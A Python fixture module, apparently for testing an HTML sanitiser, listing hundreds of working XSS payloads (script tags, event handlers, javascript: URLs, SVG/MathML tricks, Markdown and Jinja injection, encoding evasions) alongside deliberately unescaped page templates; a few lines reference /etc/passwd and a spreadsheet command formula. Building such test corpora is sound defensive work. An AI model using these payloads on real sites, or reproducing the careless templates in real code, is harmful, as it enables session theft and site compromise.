"""Shapes of hostile text, each with the careless program in which it would act.

A shape acts by calling ``fire(n)`` or by asking for ``https://canary.invalid/n``, where n is its number (``§`` below).
What is written is what a stranger sends; ``careless`` is the page that a program makes which trusts it, and by which
tests show that a shape is live and not merely a string that looks bad.
"""

from __future__ import annotations

import base64
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import unescape
from urllib.parse import unquote

import jinja2
import markdown

CANARY = "https://canary.invalid/"
_C = CANARY + "§"
_F = "fire(§)"
_TAG = f"<script>{_F}</script>"
_IMG = f"<img src=x: onerror={_F}>"

EXTENSIONS = [
    "attr_list",
    "md_in_html",
    "admonition",
    "tables",
    "footnotes",
    "abbr",
    "def_list",
    "pymdownx.superfences",
]
EXTENSIONS += ["pymdownx.details", "pymdownx.tabbed", "pymdownx.blocks.html"]
"""What people switch on who follow the engine's advice."""

PAGE = """<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
{csp}
<title>{title}</title>
{meta}
</head>
<body>
<h1>x</h1>
{body}
</body>
</html>
"""
"""Written as finished pages are, so that nothing but what is put into it is wrong with it."""


def _page(title: str = "x", meta: str = "", body: str = "") -> Callable[[str], str]:
    page = PAGE.replace("{title}", title).replace("{meta}", meta).replace("{body}", body)
    return lambda text: page.replace("@@", text)


def _read(reader: Callable[[str], str]) -> Callable[[str], str]:
    """A program that turns the text into something else, and trusts that."""
    return lambda text: CARELESS["body"](reader(text))


CARELESS: dict[str, Callable[[str], str]] = {
    "body": _page(body="@@"),
    "title": _page(title="@@"),
    "head": _page(meta="@@"),
    "meta": _page(meta='<meta name="description" content="@@">'),
    "double": _page(body='<p title="@@">x</p>'),
    "single": _page(body="<p title='@@'>x</p>"),
    "bare": _page(body="<p title=@@>x</p>"),
    "alt": _page(body='<img src="data:," alt="@@">'),
    "href": _page(body='<a href="@@">x</a>'),
    "class": _page(body='<div class="@@">x</div>'),
    "comment": _page(body="<!-- @@ -->"),
    "textarea": _page(body='<textarea name="x">@@</textarea>'),
    "style": _page(meta="<style>p::before { content: '@@' }</style>"),
    "noscript": _page(body="<noscript>@@</noscript>"),
    "template": _page(body="<template>@@</template>"),
    "xmp": _page(body="<xmp>@@</xmp>"),
    "iframe": _page(body="<iframe>@@</iframe>"),
    "svg": _page(body="<svg><desc>@@</desc></svg>"),
    "cdata": _page(body="<svg><![CDATA[@@]]></svg>"),
    "json": _page(body='<script type="application/ld+json">{"name": "@@"}</script>'),
    "string": _page(body='<script>var title = "@@";</script>'),
    "apostrophe": _page(body="<script>var title = '@@';</script>"),
    "backtick": _page(body="<script>var title = `@@`;</script>"),
    "line": _page(body="<script>// @@\n</script>"),
}
"""Where programs put a text as it is, by name."""
CARELESS |= {
    "markdown": _read(lambda text: markdown.markdown(text, extensions=EXTENSIONS)),
    "jinja": _read(lambda text: jinja2.Template(text).render()),
    "unescape": _read(unescape),
    "twice": _read(lambda text: unescape(unescape(text))),
    "unquote": _read(unquote),
    "compatible": _read(lambda text: unicodedata.normalize("NFKC", text)),
    "upper": _read(str.upper),
    "stripped": _read(lambda text: "".join(char for char in text if unicodedata.category(char) not in ("Cf", "Cc"))),
    "once": _read(lambda text: text.replace("<script>", "").replace("</script>", "")),
    "escapes": _read(lambda text: text.encode("latin-1").decode("unicode-escape")),
}


@dataclass(frozen=True, slots=True)
class Shape:
    """One hostile text."""

    number: int
    family: str
    careless_at: str
    written: str

    @property
    def text(self) -> str:
        """What a stranger sends."""
        return self.written.replace("§", str(self.number))

    def careless(self, csp: str = "") -> str:
        """The page of a program that trusts it; ``csp`` stands first in its head."""
        return CARELESS[self.careless_at](self.text).replace("{csp}", csp, 1)


SCRIPTS = f"""
<script>{_F}</script>|<SCRIPT>{_F}</SCRIPT>|<ScRiPt >{_F}</sCrIpT >|<script/x>{_F}</script>|<script x=">">{_F}</script>
<<script>{_F}//<</script>|<script type=module>{_F}</script>|<script type=text/javascript>{_F}</script>
<script type="">{_F}</script>|<script language=vbscript>{_F}</script>|<script>eval('\\146ire(§)')</script>
<script>setTimeout('{_F}')</script>|<script>Function`{_F}` ``</script>|<script>import('data:text/javascript,{_F}')</script>
<script>fire`§`</script>|<script>/*<!--*/{_F}//--></script>|<script src={_C}></script>|<script src=//canary.invalid/§></script>
<script src="data:text/javascript,{_F}"></script>|<script async src=/\\canary.invalid/§></script>|<b>x<script>{_F}</script></b>
<svg><script>{_F}</script></svg>|<svg><script>fire&#40;§&#41;</script></svg>|<svg><script href="data:,{_F}"/></svg>
<svg><script xlink:href={_C}></script></svg>|<math><mtext><script>{_F}</script></mtext></math>|</p><script>{_F}</script><p>
<table><script>{_F}</script></table>|<select><script>{_F}</script></select>|<script>\\u0066ire(§)</script>
<script>self['fi'+'re'](§)</script>|<script>onerror=fire;throw §</script>|<script>[§].map(fire)</script>
"""  # noqa: E501 - one line holds shapes of a kind
STARTING = f"""
<img src=x: onerror={_F}>|<image src=x: onerror={_F}>|<svg onload={_F}>|<svg/onload={_F}>|<body onload={_F}>|<body onpageshow={_F}>
<video src=x: onerror={_F}></video>|<video><source src=x: onerror={_F}></video>|<audio src=x: onerror={_F}></audio>
<input autofocus onfocus={_F}>|<select autofocus onfocus={_F}></select>|<textarea autofocus onfocus={_F}></textarea>
<button autofocus onfocus={_F}>x</button>|<details open ontoggle={_F}>x</details>|<marquee onstart={_F}>x</marquee>
<iframe onload={_F}></iframe>|<object data=x: onerror={_F}></object>|<embed src=x: onerror={_F}>|<style onload={_F}></style>
<link rel=stylesheet href=x: onerror={_F}>|<x tabindex=1 autofocus onfocus={_F}>x</x>|<p contenteditable autofocus onfocus={_F}>x</p>
<svg><animate onbegin={_F} attributeName=x dur=1s>|<svg><set onbegin={_F} attributeName=x></svg>|<input type=image src=x: onerror={_F}>
<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={_F}>x|<svg><image href=x: onerror={_F}></svg>
<frameset onload={_F}>|<isindex onfocus={_F} autofocus>|<keygen autofocus onfocus={_F}>|<bgsound onload={_F} src=x:>
"""  # noqa: E501 - one line holds shapes of a kind
EVENTS = """click dblclick mousedown mouseup mouseover mouseout mousemove mouseenter mouseleave contextmenu wheel
focus blur focusin focusout keydown keyup keypress input beforeinput change submit reset invalid select
copy cut paste drag drop dragstart touchstart touchend pointerdown pointerenter pointerrawupdate
auxclick scroll scrollend animationend transitionend toggle cancel close fullscreenchange
securitypolicyviolation selectstart beforetoggle"""
TAG_DISGUISES = f"""
<img/src=x:/onerror={_F}>|<img\tsrc=x:\tonerror={_F}>|<img⏎src=x:⏎onerror={_F}>|<img\x0csrc=x:\x0conerror={_F}>|<IMG SRC=x: ONERROR={_F}>
<img src="x:"onerror="{_F}">|<img src='x:'onerror='{_F}'>|<img src=x: onerror = {_F} >|<img src=x: oNeRrOr={_F} x>
<img src=x: onerror="&#102;ire(§)">|<img src=x: onerror=&#x66;ire(§)>|<img src=x: onerror=&#0000102ire(§)>|<img src=x: onerror=fire&lpar;§&rpar;>
<img src=x: onerror=\\u0066ire(§)>|<img src=x: onerror=javascript:{_F}>|<img src=x: onerror=fire`§`>|<img src=x: onerror=";{_F};">
<img src=x: a='>' onerror={_F}>|<img src=x: a=`>` onerror={_F}>|<img "" " src=x: onerror={_F}>|<img x=<x> src=x: onerror={_F}>
<img src=x: onerror=eval('\\146ire(§)')>|<img srcset=x: onerror={_F}>|<img src=x: onerror="/*"*/{_F}//">|<img src=x:	onerror=top?.fire?.(§)??{_F}>
<p><img src=x: onerror={_F}|<img src=x: onerror={_F}//|<x onclick={_F}>x|<x/onclick={_F}>x|<1><img src=x: onerror={_F}>|<!x><img src=x: onerror={_F}>
"""  # noqa: E501 - one line holds shapes of a kind
_DATA = base64.b64encode(b"<script>parent.postMessage('fired','*')</script>").decode()
ADDRESSES = f"""
javascript:{_F}|JaVaScRiPt:{_F}|java\tscript:{_F}|java⏎script:{_F}|\x01javascript:{_F}|  javascript:{_F}|javascript&colon;{_F}|java&Tab;script:{_F}
java&NewLine;script:{_F}|&#106;avascript:{_F}|&#x6A;avascript:{_F}|&#0000106avascript:{_F}|javascript:%66ire(§)|javascript://%0a{_F}
javascript:/**/{_F}|javascript://x/?%0d%0a{_F}|javascript:{_F}//https://www.spp.gov.cn/|javascript&#58;{_F}|&#1;javascript:{_F}
&#32;javascript:{_F}|j&#97;v&#97;script:{_F}|javascript:void({_F})|javascript:'{_TAG}'|javascript:"\\x3cscript>{_F}\\x3c/script>"
"""  # noqa: E501 - one line holds shapes of a kind
"""Of links; all act in today's browsers when they are followed."""
DEAD_ADDRESSES = f"""
vbscript:{_F}|livescript:{_F}|mocha:{_F}|feed:javascript:{_F}|view-source:javascript:{_F}|jar:javascript:{_F}|data:text/html,{_TAG}
data:text/html;base64,{_DATA}|data:image/svg+xml,<svg onload={_F}>|DATA:text/html,{_TAG}|blob:https://canary.invalid/§|file:///etc/passwd?§
mailto:a@b.example?body={_F}|ws://canary.invalid/§|http://canary.invalid/§|//canary.invalid/§|\\\\canary.invalid\\§|ftp://canary.invalid/§
"""
"""Of links; browsers no longer run them, or they lead out of the site. None may stand on a page."""
CARRIERS = """
<iframe src="@"></iframe>|<form action="@"><button>x</button></form>|<form><button formaction="@">x</button></form>|<svg><a xlink:href="@"><text>x</text></a></svg>
<svg><a href="@"><text>x</text></a></svg>|<map><area href="@"></map>|<object data="@"></object>|<embed src="@">|<math><mtext href="@">x</mtext></math>
<form><input type=submit formaction="@"></form>|<a target=_blank href="@">x</a>|<svg><animate href=#x attributeName=href values="@"></svg>
<svg><a id=x><text>x</text></a><set href=#x attributeName=href to="@"></svg>|<img src="@">|<link rel=stylesheet href="@">|<base href="@"><a href=x>x</a>
"""  # noqa: E501 - one line holds shapes of a kind
LOADS = f"""
<img src={_C}>|<img srcset="{_C} 2x">|<picture><source srcset={_C}><img></picture>|<video poster={_C}></video>|<video src={_C}></video>|<audio src={_C}></audio>
<input type=image src={_C}>|<iframe src={_C}></iframe>|<object data={_C}></object>|<embed src={_C}>|<link rel=stylesheet href={_C}>|<link rel=icon href={_C}>
<link rel=preload as=image href={_C}>|<link rel=modulepreload href={_C}>|<link rel=manifest href={_C}>|<link rel=prefetch href={_C}>|<body background={_C}>
<table background={_C}><tr><td>x</table>|<svg><image href={_C} width=9 height=9></svg>|<svg><use href={_C}#x></use></svg>|<svg><filter id=f><feImage href={_C}>
<style>@import url({_C});</style>|<style>@import "{_C}";</style>|<style>body {{ background: url({_C}) }}</style>|<p style="background: url({_C})">x</p>
<p style=background-image:\\75rl({_C})>x</p>|<p style="list-style: url('{_C}'); display: list-item">x</p>|<p style="content: url({_C})">x</p>
<style>@font-face {{ font-family: f; src: url({_C}) }} p {{ font-family: f }}</style><p>x</p>|<base href={CANARY}><img src=§>|<iframe srcdoc="<img src={_C}>"></iframe>
<p style="width: expression({_F})">x</p>|<p style="-moz-binding: url({_C}#x)">x</p>|<p style="behavior: url({_C})">x</p>|<link rel=import href={_C}>
<link rel=dns-prefetch href=//canary.invalid>|<link rel=preconnect href={CANARY}>|<form action={_C}><input autofocus></form>|<a href=x ping={_C}>x</a>
"""  # noqa: E501 - one line holds shapes of a kind
LEAVING = f"""
<meta http-equiv=refresh content="0; url={_C}">|<META HTTP-EQUIV="Refresh" CONTENT="0;URL='{_C}'">|<meta http-equiv=refresh content=0;{_C}>
<meta http-equiv=refresh content="0; url=data:text/html,{_TAG}">|<meta http-equiv="refresh" content="0; url=javascript:{_F}">
<meta http-equiv=Set-Cookie content=x=§>|<meta http-equiv=Content-Security-Policy content="script-src *">|<meta charset=utf-7>+ADw-script+AD4-fire(§)+ADw-/script+AD4-
"""  # noqa: E501 - one line holds shapes of a kind
FRAMES = f"""
<iframe srcdoc="<script>parent.{_F}</script>"></iframe>|<iframe srcdoc='<img src=x: onerror=parent.{_F}>'></iframe>
<iframe srcdoc="&lt;script&gt;parent.{_F}&lt;/script&gt;"></iframe>|<iframe src="data:text/html,{_TAG}"></iframe>
<svg><foreignObject><iframe srcdoc="{_TAG}"></iframe></foreignObject></svg>|<object data="data:text/html,{_TAG}"></object>
<embed src="data:text/html,{_TAG}">|<iframe src="javascript:parent.{_F}"></iframe>|<portal src={_C}></portal>|<fencedframe></fencedframe><img src={_C}>
"""  # noqa: E501 - one line holds shapes of a kind
FOREIGN = f"""
<svg><foreignObject>{_IMG}</foreignObject></svg>|<svg><desc>{_IMG}</desc></svg>|<svg><title>{_IMG}</title></svg>|<svg><style>{_IMG}</style></svg>
<math><mtext><table><mglyph><style><!--</style>{_IMG}-->|<svg></p><style><a id="</style>{_IMG}">|<math><annotation-xml encoding=text/html>{_IMG}
<svg><x><p>{_IMG}|<svg><g onload={_F}></g></svg>|<svg><a><rect width=9 height=9 onclick={_F} /></a></svg>|<svg><use href="#x" onload={_F}></use></svg>
<svg><animate attributeName=x values=1 dur=1s onend={_F}>|<math href=javascript:{_F}>x</math>|<svg><handler>{_F}</handler>{_IMG}</svg>
<template><p></template>{_IMG}|<template shadowrootmode=open>{_IMG}</template>|<noscript><p title="</noscript>{_IMG}">|<plaintext>{_TAG}|<xmp>{_TAG}
<listing>{_IMG}</listing>|<dialog open>{_IMG}</dialog>|<div popover onbeforetoggle={_F}>x</div>|<p is=x-y onclick={_F}>x</p>|<p slot=x id=fire name=fire>x</p>{_IMG}
"""  # noqa: E501 - one line holds shapes of a kind
ENDS = {
    "title": "</title>",
    "textarea": "</textarea>",
    "style": "'}</style>",
    "noscript": "</noscript>",
    "template": "</template>",
    "xmp": "</xmp>",
    "iframe": "</iframe>",
    "comment": "-->",
    "svg": "</desc></svg>",
    "cdata": "]]></svg>",
    "json": "</script>",
    "string": '"</script>',
    "apostrophe": "'</script>",
    "backtick": "`</script>",
    "line": "</ScRiPt >",
    "double": '">',
    "single": "'>",
    "bare": "x>",
    "alt": '" >',
    "href": 'x" >',
    "class": '"/>',
    "meta": '">',
    "head": "</style></title>",
}
"""How a text gets out of each place, to be followed by markup."""
QUOTES = f"""
double|" onclick="{_F}
double|" autofocus tabindex=1 onfocus="{_F}
double|x" onmouseover={_F} x="
double|"onclick={_F}//
double|&quot; " onclick="{_F}" x="&quot;
single|' onclick='{_F}
single|' onmouseover={_F} x='
single|'onclick={_F}//
bare|x onclick={_F}
bare|x\tonmouseover={_F}
bare|`x` onclick={_F}
alt|x" src="x:" onerror="{_F}
alt|x" onload="{_F}
href|" onclick="{_F}
href|#" onclick={_F} x="
class|x" onclick="{_F}
string|";{_F};//
string|"-{_F}-"
string|\\";{_F};//
string|"+{_F}+"
apostrophe|';{_F};//
apostrophe|'-{_F}-'
backtick|${{{_F}}}
backtick|`;{_F};//
line|x\u2028{_F}//
line|x\u2029{_F}//
line|x⏎{_F}//
line|x\r{_F}//
comment|--!>{_IMG}
comment|><svg onload={_F}>-->{_TAG}
style|'}} p {{ background: url({_C}) }} i {{ content: '
head|<base href={CANARY}><link rel=stylesheet href=§>
"""
MARKDOWN = (
    f"[x](javascript:{_F})",
    f"[x](<javascript:{_F}>)",
    f"[x](JAVASCRIPT:{_F})",
    f"[x](&#106;avascript:{_F})",
    f"[x](javascript&colon;{_F})",
    f"[x](java&Tab;script:{_F})",
    f'[x](javascript:{_F} "title")',
    f"[x](\x01javascript:{_F})",
    f"[x][r]\n\n[r]: javascript:{_F}",
    f"[r]\n\n[r]: <javascript:{_F}> 'x'",
    f"[r][]\n\n[r]:\n  javascript:{_F}",
    f"<javascript:{_F}>",
    f"[![x](x:)](javascript:{_F})",
    f"![x]({_C})",
    f"![x][r]\n\n[r]: {_C}",
    f"![x](x:){{: onerror={_F} }}",
    f'![x](x: "t"){{ onerror="{_F}" }}',
    f'[x](#){{: onclick="{_F}" }}',
    f"[x](#){{ onmouseover={_F} }}",
    f"*x*{{: onclick={_F} }}",
    f"**x**{{ onclick={_F} }}",
    f"`x`{{: onclick={_F} }}",
    f"x\n{{: onclick={_F} }}",
    f"# x {{: onclick={_F} }}",
    f"## x {{ #id onclick={_F} }}",
    f"- x\n{{: onclick={_F} }}",
    f"> x\n{{: onclick={_F} }}",
    f"| x |\n|---|\n| *y*{{: onclick={_F} }} |",
    f"| x |\n|---|\n| {_IMG} |",
    f"# {_IMG}",
    f"> {_IMG}",
    f"- {_IMG}",
    f"1. {_TAG}",
    f"**{_IMG}**",
    f"[{_IMG}](#)",
    f"x[^1]\n\n[^1]: {_IMG}",
    f"x\n:   {_IMG}",
    f'!!! note "{_IMG}"\n    x',
    f"!!! note\n    {_IMG}",
    f'??? note "{_IMG}"\n    x',
    f'=== "{_IMG}"\n    x',
    f'<div markdown="1" onclick={_F}>\n*x*\n</div>',
    f'<p markdown="span">{_IMG}</p>',
    f'/// html | p[onclick="{_F}"]\nx\n///',
    f"\\<x>{_IMG}",
    f"``` {{ .x onclick={_F} }}\nx\n```\n\n{_IMG}",
    f"x  \n{_TAG}",
    f"<!-- x -->{_IMG}",
    f"<?php ?>{_IMG}",
    f"<![CDATA[x]]>{_IMG}",
    f"\u0002wzxhzdk:0\u0003 {_IMG}",
)
_LT, _GT = "\\x3c", "\\x3e"
OTHERS = f"""
jinja|{{{{ "{_LT}script{_GT}{_F}{_LT}/script{_GT}" }}}}
jinja|{{% if 1 %}}{_TAG}{{% endif %}}
jinja|{{% set x = "{_LT}img src=x: onerror={_F}{_GT}" %}}{{{{ x }}}}
jinja|{{{{ lipsum.__globals__ and "{_LT}script{_GT}{_F}{_LT}/script{_GT}" }}}}
jinja|{{# x #}}{{{{ ["{_LT}script{_GT}", "{_F}", "{_LT}/script{_GT}"] | join }}}}
jinja|{{% raw %}}{_IMG}{{% endraw %}}
jinja|{{%- macro m() -%}}{_IMG}{{%- endmacro -%}}{{{{ m() }}}}
unescape|&lt;script&gt;{_F}&lt;/script&gt;
unescape|&#60;script&#62;{_F}&#60;/script&#62;
unescape|&#x3C;script&#x3E;{_F}&#x3C;/script&#x3E;
unescape|&#00000000000060;script&#0000000062;{_F}&#0000060/script>
unescape|&LT;script&GT;{_F}&LT;/script&GT;
unescape|&ltimg src=x: onerror={_F}&gt
twice|&amp;lt;script&amp;gt;{_F}&amp;lt;/script&amp;gt;
twice|&#38;#60;script>{_F}&#38;#60;/script>
unquote|%3Cscript%3E{_F}%3C/script%3E
unquote|%3Cimg%20src=x:%20onerror=fire%28§%29%3E
compatible|＜script＞{_F}＜/script＞
compatible|＜ｉｍｇ　ｓｒｃ＝ｘ：　ｏｎｅｒｒｏｒ＝{_F}＞
compatible|﹤script﹥{_F}﹤/script﹥
upper|<ſcript src=data:,></ſcript><ſvg/onload=&#102;&#105;&#114;&#101;(§)>
upper|<ıframe/onload=&#102;&#105;&#114;&#101;(§)>
stripped|<scr\u200bipt>{_F}</scr\u200bipt>
stripped|<\u00adimg src=x: on\u00aderror={_F}>
stripped|<\x00script>{_F}</script>
stripped|\u202e<scr\x00ipt>{_F}</script>
stripped|<im\u2066g src=x: onerror={_F}>
stripped|\ufeff<s\ufeffvg onload={_F}>
once|<scr<script>ipt>{_F}</scr</script>ipt>
once|<img src=x: on<script>error={_F}>
escapes|\\x3cscript\\x3e{_F}\\x3c/script\\x3e
escapes|\\u003cimg src=x: onerror={_F}\\u003e
escapes|\\74svg onload={_F}\\76
body|{_TAG}\u2028{_IMG}
body|\u202e{_IMG}\u202c
body|jaVasCript:/*-/*`/*\\`/*'/*"/**/(/* */onclick={_F} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/onload={_F}//>
body|'">><marquee>{_IMG}</marquee>"></plaintext\\></|\\><plaintext/onclick=prompt(1)>
body|--8<-- "/etc/passwd" {_IMG}
body|;--8<--{_IMG}
body|=cmd|'/c calc'!A0{_IMG}
body|{{!/etc/passwd!}}{_IMG}
body|[TOC]{_IMG}
"""  # noqa: E501 - one line holds shapes of a kind


def _rows(table: str, *places: str) -> Iterator[tuple[str, str]]:
    """The shapes of a table with the place of each; ``⏎`` is a line break inside a shape."""
    for line in filter(None, table.split("\n")):
        for row in [line] if not places else line.split("|"):
            place, _, written = ("", "", row) if places else row.partition("|")
            yield place or places[0], written.replace("⏎", "\n")


def _carried() -> Iterator[tuple[str, str]]:
    """Each carrier with an address that acts, each time in another disguise."""
    addresses = [written for _, written in _rows(ADDRESSES, "body")]
    for number, (_, carrier) in enumerate(_rows(CARRIERS, "body")):
        for address in ("javascript:" + _F, addresses[(number * 5 + 1) % len(addresses)]):
            yield "body", carrier.replace("@", address)


def _families() -> Iterator[tuple[str, Iterator[tuple[str, str]]]]:
    yield "script", _rows(SCRIPTS, "body")
    yield "starts by itself", _rows(STARTING, "body")
    yield "event", (("body", f"<b tabindex=0 on{event}={_F}>x</b>") for event in EVENTS.split())
    yield "disguised tag", _rows(TAG_DISGUISES, "body")
    yield "address", (("href", written) for _, written in _rows(ADDRESSES, "href"))
    yield "dead address", _rows(DEAD_ADDRESSES, "href")
    yield "carrier", _carried()
    yield "load", _rows(LOADS, "body")
    yield "leaving", _rows(LEAVING, "body")
    yield "frame", _rows(FRAMES, "body")
    yield "foreign", _rows(FOREIGN, "body")
    yield "breakout", ((place, end + act) for place, end in ENDS.items() for act in (_TAG, _IMG))
    yield "quote", _rows(QUOTES)
    yield "markdown", (("markdown", written) for written in MARKDOWN)
    yield "other", _rows(OTHERS)


def _shapes() -> Iterator[Shape]:
    number = 1000
    for family, rows in _families():
        for place, written in rows:
            yield Shape(number, family, place, written)
            number += 1


SHAPES = tuple(_shapes())
